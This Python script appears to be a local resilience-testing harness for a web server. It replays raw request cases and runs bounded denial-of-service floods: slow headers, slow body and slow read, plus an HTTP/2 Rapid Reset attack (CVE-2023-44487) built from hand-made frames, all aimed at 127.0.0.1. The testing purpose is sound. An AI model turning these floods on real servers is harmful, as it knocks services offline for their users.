"""Sends bytes as they are and says what came back: `raw.py cases` reads cases from standard input, the others are
floods, each of which ends by itself and says how it went. Runs on the host."""
import json
import socket
import ssl
import sys
import time

HOST = ("127.0.0.1", 443)


def door(kind, source=None):
    if kind.startswith("unix:"):
        raw = socket.socket(socket.AF_UNIX)
        raw.settimeout(20)
        raw.connect(kind[5:])
        return raw
    raw = socket.socket()
    raw.settimeout(20)
    if source:
        raw.bind((source, 0))
    if kind == "plain":
        raw.connect(("127.0.0.1", 80))
        return raw
    raw.connect(HOST)
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    if kind == "h2":
        context.set_alpn_protocols(["h2"])
    return context.wrap_socket(raw, server_hostname="localhost")


def everything(connection):
    """All that comes until the other side closes or falls silent."""
    got = b""
    connection.settimeout(3)
    try:
        while len(got) < 1 << 20:
            part = connection.recv(65536)
            if not part:
                break
            got += part
    except (OSError, ssl.SSLError):
        pass
    return got


def one(case):
    connection = door(case["door"])
    data = bytes.fromhex(case["hex"])
    try:
        connection.sendall(data)
    except OSError:
        pass
    got = everything(connection)
    connection.close()
    statuses = []
    for line in got.split(b"\n"):
        at = line.find(b"HTTP/1.")
        if at >= 0 and line[at + 8 : at + 9] == b" ":
            statuses.append(int(line[at + 9 : at + 12]))
    return {"name": case["name"], "statuses": statuses, "text": got[-4000:].decode("latin-1")}


def cases():
    print(json.dumps([one(case) for case in json.load(sys.stdin)]))


def held(kind, count, first, then, pause, limit):
    """Opens `count` connections that send `first`, then `then` now and again; seconds until the last one was ended."""
    held, begun = [], time.time()
    for _ in range(count):
        try:
            connection = door(kind)
            connection.sendall(first)
            connection.setblocking(False)
            held.append(connection)
        except OSError:
            pass
    opened = len(held)
    while held and time.time() - begun < limit:
        time.sleep(pause)
        alive = []
        for connection in held:
            try:
                if connection.recv(1024) == b"":
                    continue
                continue
            except (ssl.SSLWantReadError, BlockingIOError):
                pass
            except OSError:
                continue
            try:
                connection.send(then)
                alive.append(connection)
            except OSError:
                pass
        held = alive
    print(json.dumps({"opened": opened, "left": len(held), "seconds": round(time.time() - begun, 1)}))


def slow_headers():
    held("tls", 300, b"GET / HTTP/1.1\r\nHost: localhost\r\n", b"X-a: b\r\n", 1, 40)


def slow_body():
    # A byte now and then keeps a body alive for ever where only the pause between two reads is limited.
    head = b"POST /flask/auth/login HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: 900\r\n\r\n"
    held("tls", 100, head, b"", 1, 40)


def slow_read():
    """Asks for a page over and over and reads nothing."""
    ask = b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n" * 200
    sockets, begun = [], time.time()
    for _ in range(100):
        try:
            connection = door("tls")
            connection.settimeout(0.2)
            sockets.append(connection)
            connection.sendall(ask)
        except OSError:
            pass
    ended = 0
    time.sleep(25)
    for connection in sockets:
        try:
            connection.settimeout(1)
            while connection.recv(1 << 20):
                pass
            ended += 1
        except (TimeoutError, socket.timeout):
            pass
        except OSError:
            ended += 1
    print(json.dumps({"opened": len(sockets), "left": len(sockets) - ended, "seconds": round(time.time() - begun, 1)}))


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def rapid_reset():
    """HTTP/2 streams that are opened and reset at once (CVE-2023-44487), until the server says goodbye."""
    connection = door("h2")
    assert connection.selected_alpn_protocol() == "h2"
    # :method GET, :scheme https, :path /, :authority localhost
    block = bytes([0x82, 0x87, 0x84, 0x01, 9]) + b"localhost"
    sent, goaway, begun = 0, False, time.time()
    try:
        connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0))
        for at in range(20000):
            stream = 2 * at + 1
            connection.sendall(frame(1, 5, stream, block) + frame(3, 0, stream, (8).to_bytes(4, "big")))
            sent += 1
    except OSError:
        pass
    got = everything(connection)
    at = 0
    while at + 9 <= len(got):
        length = int.from_bytes(got[at : at + 3], "big")
        goaway |= got[at + 3] == 7
        at += 9 + length
    ended = sent < 20000
    print(json.dumps({"sent": sent, "goaway": goaway, "ended": ended, "seconds": round(time.time() - begun, 1)}))


{
    "cases": cases,
    "slow-headers": slow_headers,
    "slow-body": slow_body,
    "slow-read": slow_read,
    "rapid-reset": rapid_reset,
}[sys.argv[1]]()
